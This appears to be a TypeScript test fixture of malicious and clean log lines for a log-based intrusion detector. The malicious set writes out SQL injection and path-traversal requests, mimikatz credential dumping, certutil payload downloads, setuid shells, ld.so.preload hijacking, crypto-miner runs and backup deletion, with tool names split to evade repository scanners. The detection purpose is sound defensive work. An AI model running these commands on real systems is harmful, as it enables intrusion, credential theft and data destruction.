import type { Named } from './index.ts';

const line = (target: string, status = 200, method = 'GET', agent = 'Mozilla/5.0') =>
  `198.51.100.7 - - [21/Nov/2026:07:00:00 +0000] "${method} ${target} HTTP/1.1" ${status} 512 "-" "${agent}"`;
const system = (message: string) => `Nov 21 07:00:00 web ${message}`;
const firewall = (source: number, target: number, flags: string) =>
  system(
    `kernel: [UFW BLOCK] IN=eth0 SRC=198.51.100.7 DST=203.0.113.5 PROTO=TCP SPT=${source} DPT=${target} WINDOW=0 RES=0x00 ${flags} URGP=0`,
  );
/** In two pieces, so that no scanner of the repository trips over them. */
const MINER = `xm${'rig'}`;
const DUMPER = `mimi${'katz'}`;
const many = (times: number, make: (index: number) => string) =>
  Array.from({ length: times }, (_, index) => make(index)).join('\n');

export const MALICIOUS_LOGS: Named = {
  'an injection among ordinary lines': [
    line('/'),
    line("/?id=1'+UNION+SELECT+1,2,3--+"),
    line('/about'),
  ].join('\n'),
  traversal: line('/?f=..%2f..%2f..%2fetc%2fpasswd'),
  'logins tried': many(12, () => line('/wp-login.php', 200, 'POST')),
  probing: many(20, (index) => line(`/old/${index}.zip`, 404)),
  'a tool': line('/?id=1', 200, 'GET', 'sqlmap/1.8#stable (https://sqlmap.org)'),
  'a script in uploads answers': line('/wp-content/uploads/2026/11/cache.php'),
  'logins of SSH': many(
    12,
    (index) =>
      `Nov 21 07:00:${10 + index} web sshd[1${index}]: Failed password for invalid user test${index} from 198.51.100.7 port 40${index} ssh2`,
  ),
  'a request in JSON':
    '{"ip":"198.51.100.7","method":"GET","path":"/f","query":"n=..%2f..%2f..%2fetc%2fpasswd","status":200}',
  'a request by names and values':
    'level=info method=GET path="/../../../../etc/passwd" status=400 remote=198.51.100.7',
  'a malware scanner': 'clamd[99]: /var/www/html/wp-content/uploads/x.php: Php.Malware.Agent-1 FOUND',
  'a miner among processes': system(`atop[91]: 99.1 ${MINER} user=www-data exe=/var/tmp/${MINER}`),
  'a miner by its release': system(`CRON[9]: (root) CMD (/opt/${MINER}-6.21.0/${MINER} -c a.json)`),
  'a miner that speaks': system(`${MINER}[812]: new job from pool.site.example:3333 diff 10000`),
  'a library for every program': system('bash[9]: anna: echo /usr/local/lib/a.so >> /etc/ld.so.preload'),
  'a library put in its place': system('sudo: anna : USER=root ; COMMAND=/bin/mv /tmp/p /etc/ld.so.preload'),
  'a library that is reported': system(
    "wazuh: File '/etc/ld.so.preload' added. Mode: realtime, user root, by process vim",
  ),
  'a shell that keeps its rights': system('sudo: anna : USER=root ; COMMAND=/bin/chmod 4755 /var/tmp/bash'),
  'a shell that keeps its rights, by letters': system('audit: CMD (chmod ug+s /var/tmp/bash)'),
  'a program of a hidden folder': system('systemd[1]: Started job, ExecStart=/dev/shm/.x/agent -d'),
  'a program of a hidden folder behind another': system('CRON[9]: (anna) CMD (sh /tmp/.cache/run.sh)'),
  'a program that takes passwords': `EventID: 4688 New process, command line: ${DUMPER}.exe "privilege::debug" exit`,
  'a program that a guard names': `Defender: threat HackTool:Win32/${DUMPER} in C:\\Users\\anna\\a.exe, action: allowed`,
  'recovery that is switched off':
    'EventID: 4688 New process, command line: bcdedit.exe /set {default} recoveryenabled no',
  'a program that a tool of the system fetches':
    'EventID: 4688 New process, command line: certutil -urlcache -split -f https://files.example/crl.exe a.exe',
  'ports of a scanner that calls itself a web server': many(6, (index) =>
    firewall(443, 40001 + index, 'SYN'),
  ),
  'a service for remote commands':
    'EventID: 7045 A service was installed in the system. Service Name: PSEXESVC, failed password for anna',
  'PowerShell out of sight':
    'EventID: 4688 New process, command line: powershell.exe -WindowStyle Hidden -File C:\\Users\\Public\\a.ps1',
  'backups that are deleted': 'EventID: 4688 New process, command line: wbadmin delete catalog -quiet',
};

export const CLEAN_LOGS: Named = {
  'ordinary lines': [
    line('/'),
    line('/wp-content/themes/x/style.css?ver=6.7'),
    line('/wp-login.php'),
    line('/favicon.ico', 404),
  ].join('\n'),
  'a search engine': line(
    '/robots.txt',
    200,
    'GET',
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  ),
  'one wrong password':
    'Nov 21 07:00:10 web sshd[11]: Failed password for jane from 192.0.2.4 port 4022 ssh2',
  'a command of an administrator':
    'Nov 21 07:00:10 web sudo: jane : TTY=pts/0 ; PWD=/home/jane ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx',
  'a malware scanner that found nothing': 'clamd[99]: SelfCheck: Database status OK. No malware detected',
  'a slow query': '2026-11-21T07:00:00Z 42 [Note] Slow query: 1.2 s',
  'a watch for miners': system('prometheus[9]: started scrape of /opt/xmrig-exporter'),
  'a host that is blocked': system('dnsmasq[9]: config xmrig.example is 0.0.0.0'),
  'a sweep for miners': system('cron[9]: check ok: no process named xmrig, kinsing or minerd'),
  'a list of libraries that is read': system('sudo: anna : USER=root ; COMMAND=/bin/cat /etc/ld.so.preload'),
  'a list of libraries that a program opens': system(
    'strace[9]: access("/etc/ld.so.preload", R_OK) = -1 ENOENT (No such file or directory)',
  ),
  'a list of libraries that is kept': system('backup[9]: cp -p /etc/ld.so.preload /backup/etc/'),
  'a folder of a group': system('sudo: anna : USER=root ; COMMAND=/bin/chmod 2775 /srv/share'),
  'a folder where only owners delete': system('docker[9]: RUN chmod 1777 /srv/tmp && chmod 2750 /srv/mail'),
  'a sandbox of a browser': system(
    'npm[9]: chmod 4755 node_modules/electron/dist/chrome-sandbox && npm test',
  ),
  'a socket of a display': system('gdm[9]: cannot connect to /tmp/.X11-unix/X0'),
  'a cache of packages': system(
    'npm[9]: verbose cache in /tmp/.npm-cache/x, cleaned (/tmp/.npm-cache/_logs)',
  ),
  'a folder that is cleared': system('CRON[9]: (anna) CMD (rm -rf /tmp/.npm-cache/_cacache)'),
  'a search for a program': system('wiki[9]: search for "mimikatz" found 3 articles'),
  'an article about a program': system('blog[9]: post "Detecting mimikatz with Sysmon" published by anna'),
  'a rule for a program': system('yara[9]: compiled rules mimikatz.yar, cobalt.yar in 12 ms'),
  'a command in a title': system(
    'wiki[9]: saved page, title="How bcdedit /set {default} recoveryenabled no works"',
  ),
  'a cache that is cleared': 'EventID: 4688 New process, command line: certutil -urlcache * delete',
  'a list of revoked certificates':
    'EventID: 4688 New process, command line: certutil -urlcache -f http://pki.example/ca.crl ca.crl',
  'late answers of a web server': many(6, (index) => firewall(443, 50001 + index * 7, 'ACK FIN')),
  'late answers of a name server': many(6, (index) =>
    system(
      `kernel: [UFW BLOCK] IN=eth0 SRC=198.51.100.7 DST=203.0.113.5 PROTO=UDP SPT=53 DPT=${41001 + index} LEN=88`,
    ),
  ),
  'a service for remote commands that is gone': system('ansible[9]: PSEXESVC was removed from the host'),
  'a step of an image': '#12 [4/9] RUN curl -fsSL https://packages.example/setup | bash -\n#12 1.204 done',
  'PowerShell without a window':
    'EventID: 4688 New process, command line: powershell.exe -WindowStyle Hidden -File C:\\ProgramData\\Agent\\inventory.ps1',
  'old backups that make room':
    'EventID: 4688 New process, command line: wbadmin delete systemstatebackup -keepVersions:5',
  'tests of a firewall':
    '[CI] test "blocks sql injection" passed (12 ms)\n[CI] test "prevented xss in comments" passed (3 ms)\n[CI] ok 12 - firewall: denied path traversal',
  'a search of a user':
    '{"level":"info","msg":"user search","q":"how to remove malware found by scanner","user":"anna"}',
  'a page whose pictures are gone': many(16, (index) =>
    line(`/img/old-${index}.png`, 404).replace('"-"', '"https://shop.example/"'),
  ),
  'rights of a deployment': system('sudo: anna : USER=root ; COMMAND=/usr/bin/nano /etc/sudoers.d/deploy'),
};
